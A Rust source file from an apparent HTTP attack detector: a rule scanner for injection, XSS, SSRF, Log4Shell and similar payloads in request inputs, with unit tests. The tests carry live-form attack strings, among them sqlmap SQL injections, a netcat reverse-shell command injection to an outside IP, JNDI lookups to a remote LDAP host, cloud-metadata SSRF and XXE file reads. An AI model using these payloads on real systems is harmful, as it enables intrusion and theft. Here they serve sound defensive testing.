//! Attack payloads in request inputs (SQL injection, XSS, path traversal, command injection, SSRF, Log4Shell,
//! XXE, NoSQL and template injection): the rules of the attack pack ([`super::rules`]) over the decoded
//! inputs of [`super::input`]. One Aho-Corasick automaton over every rule's anchors picks the candidate
//! rules of a value; only their regexes run. Each rule raises at most one hit per transaction, naming the
//! first input that carried it, the outcome (2xx: possible success, severity one step up; 4xx/5xx:
//! rejected) and the payload cut to `evidence_bytes`.

use std::cell::RefCell;
use std::collections::HashMap;
use std::sync::atomic::{AtomicU64, Ordering};

use aho_corasick::{AhoCorasick, AhoCorasickBuilder, MatchKind};

use super::input::{self, Input, Limits};
use super::rules::{AttackRule, RuleId, Rules};
use super::{Detector, Emitter, Hit, Settings, TxContext, truncate_escaped};
use crate::http::Transaction;

pub struct Attacks {
    rules: Vec<(RuleId, AttackRule)>,
    /// Over every anchor; pattern id → rule index in `rules`.
    ac: Option<AhoCorasick>,
    anchor_rule: Vec<usize>,
    /// Rules without anchors: checked on every value.
    always: u64,
    limits: Limits,
    evidence_bytes: usize,
    values_skipped: std::sync::atomic::AtomicU64,
    /// Tells this instance's entries in the per-thread [`MEMO`] from another engine's (tests, reloads).
    id: u64,
}

/// What the scan learnt of recent short values, per worker thread: clients repeat most values (User-Agent,
/// Content-Type, paths, query parameters), and the anchor scan and the candidates' regexes are the cost of
/// a value. Both are functions of the value alone (locations are checked apart). A memo, not
/// a table of state: when full it is emptied, losing only time, so its size is not a setting.
const MEMO_ENTRIES: usize = 1024;
/// Longer values are scanned every time (rarely repeated, and the memo's memory stays under 128 KiB).
const MEMO_VALUE_BYTES: usize = 128;

struct Memo {
    owner: u64,
    /// Value → (candidate rules, candidates whose regex found nothing in it).
    masks: HashMap<Box<str>, (u64, u64), foldhash::fast::RandomState>,
}

thread_local! {
    static MEMO: RefCell<Memo> = RefCell::new(Memo { owner: 0, masks: HashMap::default() });
}

static NEXT_ID: AtomicU64 = AtomicU64::new(1);

impl Attacks {
    pub fn new(pack: &[AttackRule], rules: &Rules, s: &Settings) -> Self {
        let mut compiled = Vec::new();
        let mut patterns = Vec::new();
        let mut anchor_rule = Vec::new();
        let mut always = 0u64;
        for r in pack {
            let Some(id) = rules.find(&r.meta.id) else { continue };
            let i = compiled.len();
            if r.anchors.is_empty() {
                always |= 1 << i;
            }
            for a in &r.anchors {
                patterns.push(a.clone());
                anchor_rule.push(i);
            }
            let mut r = r.clone();
            r.meta = rules.get(id).cloned().unwrap_or(r.meta);
            compiled.push((id, r));
        }
        let ac = AhoCorasickBuilder::new()
            .ascii_case_insensitive(true)
            .match_kind(MatchKind::Standard)
            .kind(Some(aho_corasick::AhoCorasickKind::DFA))
            .build(&patterns)
            .ok();
        Attacks {
            rules: compiled,
            ac,
            anchor_rule,
            always,
            limits: Limits {
                max_values: s.max_values_per_transaction,
                max_value_bytes: s.max_value_bytes,
                max_decode_rounds: s.max_decode_rounds,
            },
            evidence_bytes: s.evidence_bytes,
            values_skipped: Default::default(),
            id: NEXT_ID.fetch_add(1, Ordering::Relaxed),
        }
    }

    /// Candidate rules of one value (bit i = `rules[i]`).
    fn candidates(&self, v: &str) -> u64 {
        let mut mask = self.always;
        if let Some(ac) = &self.ac {
            for m in ac.find_overlapping_iter(v) {
                if let Some(&r) = self.anchor_rule.get(m.pattern().as_usize()) {
                    mask |= 1 << r;
                }
            }
        }
        mask
    }

    /// The hits of one set of inputs: (rule index, input index, match start).
    pub fn scan(&self, inputs: &[Input]) -> Vec<(usize, usize, usize)> {
        MEMO.with_borrow_mut(|memo| {
            if memo.owner != self.id {
                memo.masks.clear();
                memo.owner = self.id;
            }
            self.scan_with(inputs, memo)
        })
    }

    fn scan_with(&self, inputs: &[Input], memo: &mut Memo) -> Vec<(usize, usize, usize)> {
        let mut done = 0u64;
        let mut out = Vec::new();
        for (ii, inp) in inputs.iter().enumerate() {
            let v: &str = &inp.value;
            let memoable = v.len() <= MEMO_VALUE_BYTES;
            let (cand, mut quiet) = match memoable.then(|| memo.masks.get(v)).flatten() {
                Some(&e) => e,
                _ => {
                    let c = self.candidates(v);
                    if memoable {
                        if memo.masks.len() >= MEMO_ENTRIES {
                            memo.masks.clear();
                        }
                        memo.masks.insert(v.into(), (c, 0));
                    }
                    (c, 0)
                }
            };
            let was_quiet = quiet;
            let mut cand = cand & !done & !quiet;
            while cand != 0 {
                let ri = cand.trailing_zeros() as usize;
                cand &= cand - 1;
                let Some((_, r)) = self.rules.get(ri) else { continue };
                if r.locations & inp.loc as u8 == 0 {
                    continue;
                }
                if let Some(m) = r.regex.find(v) {
                    done |= 1 << ri;
                    out.push((ri, ii, m.start()));
                } else {
                    quiet |= 1 << ri;
                }
            }
            if memoable
                && quiet != was_quiet
                && let Some(e) = memo.masks.get_mut(v)
            {
                e.1 = quiet;
            }
        }
        out
    }
}

/// The outcome of a request as the server answered it.
pub fn outcome(status: Option<u16>) -> &'static str {
    match status {
        Some(200..=299) => "possible_success",
        Some(400..=599) => "rejected",
        Some(300..=399) => "redirected",
        Some(_) => "other",
        None => "no_response",
    }
}

impl Detector for Attacks {
    fn name(&self) -> &'static str {
        "attacks"
    }

    /// Nothing to do in the detections' turn: the scan needs the transaction alone.
    fn on_transaction(&self, _tx: &Transaction, _ctx: &TxContext, _em: &mut Emitter<'_>) {}

    fn scan(&self, tx: &Transaction, rules: &Rules, hits_out: &mut Vec<Hit>) {
        if self.rules.iter().all(|(id, _)| !rules.enabled(*id)) {
            return;
        }
        let mut inputs = Vec::with_capacity(16);
        let skipped = input::collect(tx, &self.limits, &mut inputs);
        if skipped > 0 {
            self.values_skipped.fetch_add(skipped, Ordering::Relaxed);
        }
        let hits = self.scan(&inputs);
        if hits.is_empty() {
            return;
        }
        let sql_error = tx.status.is_some_and(|s| s >= 500) && super::misconfig::sql_error(tx).is_some();
        let out = outcome(tx.status);
        for (ri, ii, start) in hits {
            let (Some((id, r)), Some(inp)) = (self.rules.get(ri), inputs.get(ii)) else { continue };
            // A little context before the match, then the payload.
            let from = inp.value.get(..start).map_or(0, |h| {
                let mut b = start.saturating_sub(8);
                while !h.is_char_boundary(b) {
                    b -= 1;
                }
                b
            });
            let ev = truncate_escaped(inp.value.as_bytes().get(from..).unwrap_or_default(), self.evidence_bytes);
            let mut hit = Hit::new(*id)
                .at(inp.loc.name(), inp.field.to_string())
                .evidence(ev)
                .outcome(out)
                .raise(out == "possible_success");
            if r.meta.kind == "sql_injection" && sql_error {
                hit = hit.confidence((r.meta.confidence + 0.15).min(1.0));
            }
            if rules.enabled(hit.rule) {
                hits_out.push(hit);
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::super::testutil::*;
    use super::super::{Settings, TxContext};

    fn fires(uri: &str, headers: &[(&str, &str)], body: &str) -> Vec<String> {
        let e = engine(Settings::default());
        let t = tx(if body.is_empty() { "GET" } else { "POST" }, uri, headers, body, 400, 1.0);
        ids(&fired(&e, &t))
    }

    /// Percent-encodes everything but unreserved characters, as a client library would.
    fn pct(s: &str) -> String {
        s.bytes()
            .map(|b| {
                if b.is_ascii_alphanumeric() || b"-._~".contains(&b) {
                    (b as char).to_string()
                } else {
                    format!("%{b:02X}")
                }
            })
            .collect()
    }

    fn attack_ids(uri: &str, headers: &[(&str, &str)], body: &str) -> Vec<String> {
        let pack: Vec<String> = super::super::rules::load_attack_pack("a", super::super::rules::DEFAULT_ATTACK_PACK)
            .unwrap()
            .into_iter()
            .map(|r| r.meta.id)
            .collect();
        fires(uri, headers, body).into_iter().filter(|r| pack.contains(r)).collect()
    }

    #[test]
    fn sqli() {
        assert_eq!(attack_ids("/s?q=laptop'%20OR%201=1--", &[], ""), ["sqli"]);
        assert_eq!(attack_ids("/p?c=1%27%20UNION%20SELECT%20a,b%20FROM%20users--", &[], ""), ["sqli"]);
        assert_eq!(attack_ids("/p?id=1'%20OR%20'1'='1", &[], ""), ["sqli"]);
        assert_eq!(attack_ids("/p?id=1;%20DROP%20TABLE%20users", &[], ""), ["sqli"]);
        assert_eq!(attack_ids("/p?id=1%20AND%20SLEEP(5)", &[], ""), ["sqli"]);
        assert!(attack_ids("/p?name=O'Brien&q=rock%20and%20roll", &[], "").is_empty());
        assert!(attack_ids("/p?q=select%20a%20union%20rep", &[], "").is_empty());
    }

    /// sqlmap 1.10 payloads that the first pack missed (captured by tests/attacks/capture.sh), and look-alikes
    /// from ordinary input that must stay quiet.
    #[test]
    fn sqli_sqlmap_payloads() {
        for p in [
            "1)) RLIKE (SELECT (CASE WHEN (6026=9836) THEN 1 ELSE 0x28 END)) AND ((8041=8041",
            "(CASE WHEN 7185=8314 THEN 7185 ELSE NULL END)",
            "1 AND GTID_SUBSET(CONCAT(0x717a787871,(SELECT (ELT(2876=2876,1))),0x7162787671),2876)",
            "1;DECLARE @x CHAR(9);SET @x=0x303a303a31;WAITFOR DELAY @x--",
            "1;SELECT DBMS_PIPE.RECEIVE_MESSAGE(CHR(86)||CHR(65)||CHR(76)||CHR(113),1) FROM DUAL--",
            "1 AND 8394=DBMS_PIPE.RECEIVE_MESSAGE(CHR(72)||CHR(118)||CHR(85)||CHR(109),1)",
            "1)) ORDER BY 1#",
            "1' AND 'GvaG'='GvaG",
        ] {
            let uri = format!("/posts?id={}", pct(p));
            assert_eq!(attack_ids(&uri, &[], ""), ["sqli"], "{p}");
        }
        for q in ["in case when it rains then stay", "salt; select a brand", "char(10) and chr(13)", "order by date"] {
            let uri = format!("/s?q={}", pct(q));
            assert!(attack_ids(&uri, &[], "").is_empty(), "{q}");
        }
    }

    #[test]
    fn xss() {
        assert_eq!(
            attack_ids("/u", &[("Content-Type", "application/json")], r#"{"bio":"<img src=x onerror=alert(1)>"}"#),
            ["xss"]
        );
        assert_eq!(attack_ids("/s?q=%3Cscript%3Ealert(1)%3C/script%3E", &[], ""), ["xss"]);
        assert_eq!(attack_ids("/s?next=javascript:alert(document.domain)", &[], ""), ["xss"]);
        assert!(attack_ids("/s?q=a%20%3C%20b%20and%20c%20%3E%20d", &[], "").is_empty());
        assert!(attack_ids("/s?q=onerror%20handling%20guide", &[], "").is_empty());
        // Breaking out of a JavaScript string literal.
        assert_eq!(attack_ids("/s?q=%27-alert%281%29-%27", &[], ""), ["xss"]);
        assert!(attack_ids("/s?q=it%27s%20an%20alert(y)%20cat", &[], "").is_empty());
    }

    #[test]
    fn path_traversal() {
        assert_eq!(attack_ids("/static/../../etc/passwd", &[], ""), ["path_traversal"]);
        assert_eq!(attack_ids("/f?name=..%252F..%252F..%252Fetc%252Fpasswd", &[], ""), ["path_traversal"]);
        assert_eq!(attack_ids("/f?name=..\\..\\windows\\win.ini", &[], ""), ["path_traversal"]);
        assert!(attack_ids("/docs/../guide.html", &[], "").is_empty());
    }

    #[test]
    fn command_injection() {
        assert_eq!(attack_ids("/ping?host=127.0.0.1;cat%20/tmp/x", &[], ""), ["command_injection"]);
        assert_eq!(attack_ids("/ping?host=$(whoami)", &[], ""), ["command_injection"]);
        assert_eq!(attack_ids("/ping?host=a%7Cnc%20-e%20sh%201.2.3.4", &[], ""), ["command_injection"]);
        assert!(
            attack_ids(
                "/x",
                &[("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)")],
                ""
            )
            .is_empty()
        );
        assert!(attack_ids("/x?q=salt%3B%20pepper%20%7C%20id%20card", &[], "").is_empty());
    }

    /// The per-thread memo answers repeated values as a fresh scan would: a rule skipped for its location is
    /// not remembered as quiet, and a second engine does not read the first one's entries.
    #[test]
    fn memo_answers_repeats_like_a_fresh_scan() {
        let url = "http://169.254.169.254/latest/meta-data/";
        let e = engine(Settings::default());
        let ids_of = |uri: &str, h: &[(&str, &str)]| {
            let t = tx("GET", uri, h, "", 400, 1.0);
            ids(&fired(&e, &t))
        };
        for _ in 0..3 {
            // SSRF is not looked for in headers: the value is seen there first, then in the query.
            assert!(!ids_of("/a", &[("X-Target", url)]).contains(&"ssrf".to_owned()));
            assert!(ids_of(&format!("/fetch?url={url}"), &[("X-Target", url)]).contains(&"ssrf".to_owned()));
            assert!(ids_of("/s?name=O'Brien", &[]).is_empty());
        }
        let other = engine(Settings::default());
        let t = tx("GET", &format!("/fetch?url={url}"), &[], "", 400, 1.0);
        assert!(ids(&fired(&other, &t)).contains(&"ssrf".to_owned()));
    }

    #[test]
    fn ssrf() {
        assert_eq!(attack_ids("/fetch?url=http://169.254.169.254/latest/meta-data/", &[], ""), ["ssrf"]);
        assert_eq!(attack_ids("/fetch?url=http://localhost:8080/admin", &[], ""), ["ssrf"]);
        assert_eq!(attack_ids("/fetch?url=gopher://x:25/_HELO", &[], ""), ["ssrf"]);
        assert_eq!(attack_ids("/fetch?url=http://2852039166/", &[], ""), ["ssrf"]);
        assert_eq!(attack_ids("/fetch?url=http://[::1]/", &[], ""), ["ssrf"]);
        // A local file fetched through a URL parameter (also path traversal).
        assert!(attack_ids("/fetch?url=file%3A%2F%2F%2Fetc%2Fhosts", &[], "").contains(&"ssrf".to_owned()));
        assert!(attack_ids("/fetch?url=https://cdn.shop.example/p/1.jpg", &[], "").is_empty());
        // Not in headers: a Referer from an intranet app is normal.
        assert!(attack_ids("/x", &[("Referer", "http://10.1.2.3/app")], "").is_empty());
    }

    #[test]
    fn log4shell() {
        assert_eq!(attack_ids("/x", &[("User-Agent", "${jndi:ldap://203.0.113.66:1389/a}")], ""), ["log4shell"]);
        assert_eq!(attack_ids("/x", &[("X-Api-Version", "${${lower:j}ndi:${lower:l}dap://x/a}")], ""), ["log4shell"]);
        assert_eq!(attack_ids("/x?q=%24%7B%24%7B%3A%3A-j%7Dndi%3Armi%3A%2F%2Fx%7D", &[], ""), ["log4shell"]);
        assert!(attack_ids("/x?tpl=${user.name}", &[], "").is_empty());
    }

    #[test]
    fn xxe() {
        let body = r#"<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/hostname">]><r>&x;</r>"#;
        // Also path traversal (file:///etc/...): both are reported.
        assert!(attack_ids("/import", &[("Content-Type", "application/xml")], body).contains(&"xxe".to_owned()));
        assert!(
            attack_ids("/import", &[("Content-Type", "application/xml")], "<?xml version=\"1.0\"?><r>1</r>").is_empty()
        );
    }

    #[test]
    fn nosql() {
        assert_eq!(
            attack_ids(
                "/login",
                &[("Content-Type", "application/json")],
                r#"{"user":"admin","password":{"$ne":null}}"#
            ),
            ["nosql_injection"]
        );
        assert_eq!(attack_ids("/login?user=admin&password%5B%24ne%5D=x", &[], ""), ["nosql_injection"]);
        assert!(
            attack_ids("/q?filter=%7B%22%24where%22%3A%22this.a%3D%3D1%22%7D", &[], "")
                .contains(&"nosql_injection".to_owned())
        );
        assert!(attack_ids("/q?price=$in%20cash&note=$new", &[], "").is_empty());
    }

    #[test]
    fn template_injection() {
        assert_eq!(attack_ids("/hello?name={{7*7}}", &[], ""), ["template_injection"]);
        assert_eq!(attack_ids("/hello?name=${7*7}", &[], ""), ["template_injection"]);
        assert_eq!(
            attack_ids("/hello?name={{config.__class__.__init__.__globals__}}", &[], ""),
            ["template_injection"]
        );
        assert!(attack_ids("/hello?tpl={{name}}", &[], "").is_empty());
        assert_eq!(attack_ids("/hello?name=%7B%25%20print(7*7)%20%25%7D", &[], ""), ["template_injection"]);
        assert!(attack_ids("/hello?q=%7B%25%20if%20user%20%25%7D", &[], "").is_empty());
    }

    #[test]
    fn outcome_and_parameter_are_reported() {
        let e = engine(Settings::default());
        let t = tx("GET", "/api/v1/images/fetch?url=http://169.254.169.254/latest/meta-data/", &[], "", 200, 1.0);
        let a = fired(&e, &t);
        let a = a.iter().find(|a| a["rule_id"] == "ssrf").unwrap();
        assert_eq!(a["outcome"], "possible_success");
        assert_eq!(a["severity"], "critical");
        assert_eq!((a["location"].as_str(), a["field"].as_str()), (Some("request.query"), Some("url")));
        assert!(a["evidence"].as_str().unwrap().contains("169.254.169.254"));
        let t = tx("GET", "/api/v1/images/fetch?url=http://169.254.169.254/", &[], "", 403, 1.0);
        let a = fired(&e, &t);
        let a = a.iter().find(|a| a["rule_id"] == "ssrf").unwrap();
        assert_eq!((a["outcome"].as_str(), a["severity"].as_str()), (Some("rejected"), Some("high")));
    }

    #[test]
    fn disabled_rule_is_silent() {
        let mut s = Settings::default();
        s.rules.insert("sqli".into(), super::super::RuleSettings { enabled: Some(false), ..Default::default() });
        let e = engine(s);
        assert!(!ids(&fired(&e, &tx("GET", "/s?q=1'%20OR%201=1--", &[], "", 400, 1.0))).contains(&"sqli".to_owned()));
    }

    #[test]
    fn hostile_values_do_not_blow_up() {
        let e = engine(Settings::default());
        let big = "%25".repeat(50_000) + &"${".repeat(20_000) + &"'".repeat(10_000);
        let t = tx("POST", &format!("/x?a={big}"), &[("Content-Type", "application/json")], &"[".repeat(200), 200, 1.0);
        let _ = fired(&e, &t);
        let _ = TxContext::default();
    }
}
